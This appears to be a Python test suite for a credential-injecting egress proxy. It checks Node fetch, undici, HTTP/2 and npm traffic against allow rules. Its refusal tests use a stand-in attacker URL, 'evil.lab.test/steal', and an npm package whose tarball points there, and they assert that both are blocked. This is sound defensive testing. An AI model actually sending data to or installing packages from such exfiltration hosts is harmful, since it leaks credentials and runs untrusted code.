# SPDX-License-Identifier: Apache-2.0
"""node's fetch, undici, node:http2, and npm with a registry that wants a token."""
import base64
import hashlib
import io
import json
import os
import shutil
import tarfile
import unittest

import nodes
import outside
import support
from nodes import NodeClient

API, WWW, ONE = "https://api.node.lab.test", "https://www.node.lab.test", "https://www.one.lab.test"
RULES = (f"{{to: '{API}', methods: [GET, POST], paths: [/**], credential: api}}", WWW, "https://www.node.lab.test:8443", ONE)


class Fetching:
    """The same cases for node's own fetch and for undici's, over HTTP/1.1."""
    SCRIPT = "fetch.mjs"
    RULES = RULES
    CREDENTIALS = {"api": "inject: bearer, env: API_KEY"}
    FETCH = None

    def fetch(self, box, *arguments):
        return self.node(box, self.FETCH, *arguments)

    def test_get(self):
        def check(box, word):
            self.assertEqual(self.fetch(box, "get", f"{API}/whoami?{word}")["status"], 200)
            self.assert_went(box, path=f"/whoami?{word}", authenticated=True)
        self.each(check)

    def test_post(self):
        def check(box, word):
            answer = self.fetch(box, "post", f"{API}/post/{word}", 2000000)
            self.assertEqual(answer, {"known": True, "streamed": True, "body": 2000000})
            self.assert_went(box, path=f"/post/{word}", authenticated=True)
        self.each(check)

    def test_stream(self):
        def check(box, word):
            self.assertEqual(self.fetch(box, "stream", f"{WWW}/bytes/20000000?{word}"), {"n": 20000000})
        self.each(check)

    def test_many_at_once(self):
        def check(box, word):
            self.assertEqual(self.fetch(box, "many", f"{WWW}/many/{word}", 100), {"inOrder": True})
            self.assertEqual(len(self.seen("request")), 100)
        self.each(check)

    def test_abort(self):
        def check(box, word):
            answer = self.fetch(box, "abort", f"{WWW}/bytes/200000000", f"{WWW}/after")
            self.assertEqual(answer, {"error": "AbortError", "then": 200})
        self.each(check)

    def test_refused(self):
        def check(box, word):
            answer = self.fetch(box, "get", "https://evil.lab.test/steal")
            if word == "transparent":
                self.assertEqual((answer["status"], answer["type"]), (403, "application/problem+json"), answer)
                self.assert_denied(box, json.loads(answer["text"]))
            else:  # the refusal is the answer to CONNECT, which fetch does not show
                self.assertIn("failed", answer)
                self.assertIsNotNone(box.event(action_id=2))
            answer = self.fetch(box, "get", f"{ONE}/whoami")
            self.assertEqual(answer["status"], 401, "another host must not get the credential")
            self.assertEqual(self.seen("evil"), [])
            self.assertEqual(self.seen("request", authenticated=True), [])
        self.each(check)


@nodes.needs_packages
class Fetch(Fetching, NodeClient):
    FETCH = "own"


@nodes.needs_packages
class Undici(Fetching, NodeClient):
    FETCH = "undici"

    def test_h2_where_it_is_offered(self):
        def check(box, word):
            self.assertEqual(self.node(box, "undiciH2", f"{WWW}/h2/{word}", 50), {"all": True})
            self.assert_went(box, path=f"/h2/{word}?0")
        self.each(check)

    def test_pipelined(self):
        """Transparent only: undici pipelines on connections of its own."""
        self.assertEqual(self.node(self.box, "pipelined", WWW, 50), {"inOrder": True})
        self.assertEqual([r["path"] for r in self.seen("request")], [f"/p{i}" for i in range(50)])


@nodes.needs_packages
@nodes.needs_h2
class Http2(NodeClient):
    """node:http2 speaks nothing else."""
    SCRIPT = "fetch.mjs"
    RULES = (f"{{to: '{API}', methods: [GET, POST], paths: [/whoami, /post/*, /trailers, /bytes/**], credential: api}}",
             "https://api.node.lab.test:8443", WWW)
    CREDENTIALS = {"api": "inject: bearer, env: API_KEY"}

    def test_work(self):
        def check(box, word):
            answer = self.node(box, "http2", API, 100)
            self.assertEqual(answer, {"alpn": "h2", "ok": 100, "trailers": "the end", "text": "body"})
            self.assertEqual(len(self.seen("request", authenticated=True)), 101)
            self.assert_went(box, authenticated=True)
        self.each(check)

    def test_upload(self):
        def check(box, word):
            self.assertEqual(self.node(box, "http2Post", API, 100), ["same"] * 3)
        self.each(check)

    def test_cancel(self):
        def check(box, word):
            self.assertEqual(self.node(box, "http2Cancel", API), {"status": 200, "n": 3000000})
        self.each(check)

    def test_refused_streams_leave_the_others(self):
        def check(box, word):
            answer = self.node(box, "http2Refused", API, "/admin", "www.node.lab.test")
            self.assertEqual(answer["statuses"], [403, 421, 403, 200], answer)
            for i in (0, 2):
                self.assertEqual(answer["types"][i], "application/problem+json")
                self.assert_denied(box, json.loads(answer["texts"][i]))
            self.assertEqual([r["path"] for r in self.seen("request")], ["/whoami"])
        self.each(check)


def tarball(name, version, dependencies, text):
    out = io.BytesIO()
    manifest = {"name": name, "version": version, "main": "index.js", "dependencies": dependencies}
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for file, data in (("package/package.json", json.dumps(manifest)), ("package/index.js", text)):
            info = tarfile.TarInfo(file)
            info.size = len(data.encode())
            tar.addfile(info, io.BytesIO(data.encode()))
    return manifest, out.getvalue()


@nodes.needs_packages
@unittest.skipUnless(*outside.need("npm"))
class Npm(NodeClient):
    """A registry with one public package, which needs another, which needs a scoped one that wants the token."""
    REGISTRY = "https://npm.node.lab.test/npm/"
    RULES = ("{to: 'https://npm.node.lab.test', methods: [GET, PUT], paths: [/npm/**, \"/npm/@*%2F*\"], credential: npm}",)
    CREDENTIALS = {"npm": "inject: bearer, env: NPM_TOKEN"}

    @classmethod
    def prepare(cls):
        nodes.start()
        cls.package("lab-top", {"lab-below": "^1.0.0"}, "module.exports = 'top ' + require('lab-below');")
        cls.package("lab-below", {"@lab/private": "1.0.0"}, "module.exports = 'below ' + require('@lab/private');")
        cls.package("@lab/private", {}, "module.exports = 'private';" + "//" + os.urandom(400000).hex())
        cls.package("lab-lost", {"lab-nowhere": "1.0.0"}, "")
        cls.package("lab-away", {}, "", tarball_at="https://evil.lab.test/steal.tgz")

    @classmethod
    def package(cls, name, dependencies, text, tarball_at=None):
        manifest, data = tarball(name, "1.0.0", dependencies, text)
        file = name.replace("/", "+") + "-1.0.0.tgz"
        with open(support.LAB.path("npm/" + file), "wb") as f:
            f.write(data)
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        manifest["dist"] = {"tarball": tarball_at or cls.REGISTRY + file.replace("+", "%2f"), "integrity": integrity}
        document = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": manifest}}
        support.LAB.write("npm/" + name.replace("/", "+"), json.dumps(document))

    def project(self, word):
        """A project of its own, with a cache of its own."""
        top = support.LAB.path(f"npm-project-{word}-{self._testMethodName}")
        shutil.rmtree(top, ignore_errors=True)
        os.makedirs(top)
        with open(top + "/.npmrc", "w") as f:
            f.write(f"registry={self.REGISTRY}\n//npm.node.lab.test/npm/:_authToken=${{NPM_TOKEN}}\ncache={top}/cache\n"
                    "audit=false\nfund=false\nupdate-notifier=false\nfetch-retries=0\n")
        with open(top + "/package.json", "w") as f:
            f.write('{"name": "project", "version": "1.0.0"}')
        return top

    def npm(self, box, top, command):
        return box.sh(f"cd {top} && npm {command}", timeout=120)

    def test_install(self):
        def check(box, word):
            top = self.project(word)
            self.assert_ok(self.npm(box, top, "install lab-top"))
            done = box.sh(f"cd {top} && node -p 'require(\"lab-top\")'")
            self.assertEqual(done.out, "top below private\n", done)
            self.assert_went(box, path="/npm/@lab%2Fprivate", authenticated=True)
            self.assert_no_secret(box.sh(f"cat {top}/.npmrc {top}/package-lock.json; cat {top}/cache/_logs/*").out)
            # Again from the lock file, as a build does.
            self.assert_ok(self.npm(box, top, f"ci --cache {top}/cache2"))
        self.each(check)

    def test_publish(self):
        def check(box, word):
            top = self.project(word)
            with open(top + "/package.json", "w") as f:
                json.dump({"name": "@lab/" + word, "version": "2.0.0", "main": "big.js"}, f)
            with open(top + "/big.js", "w") as f:
                f.write("// " + os.urandom(500000).hex())
            self.assert_ok(self.npm(box, top, "publish --access restricted"))
            row = self.assert_went(box, method="PUT", authenticated=True)
            self.assertGreater(row["body"], 500000)
            with open(support.LAB.path(f"npm/published-@lab+{word}")) as f:
                self.assertEqual(json.load(f)["dist-tags"], {"latest": "2.0.0"})
        self.each(check)

    def test_refused(self):
        def check(box, word):
            top = self.project(word)
            self.assertNotEqual(self.npm(box, top, "install lab-lost").status, 0, "a package that is not there")
            done = self.npm(box, top, "install lab-away")
            self.assertNotEqual(done.status, 0, "a package elsewhere")
            self.assertEqual(self.seen("evil"), [])
            self.assertIsNotNone(box.event(action_id=2, **{"dst_endpoint.hostname": "evil.lab.test"}), box.events()[-2:])
            self.assertNotEqual(self.npm(box, top, "unpublish --force lab-top@1.0.0").status, 0)
            self.assertEqual(self.seen("request", method="DELETE"), [])
            done = self.npm(box, top, "view lab-top --registry https://npm.node.lab.test/elsewhere/")
            self.assertNotEqual(done.status, 0)
            self.assertIn("403", done.err)
            self.assertEqual([r for r in self.seen("request") if "elsewhere" in r["path"]], [])
        self.each(check)


del NodeClient
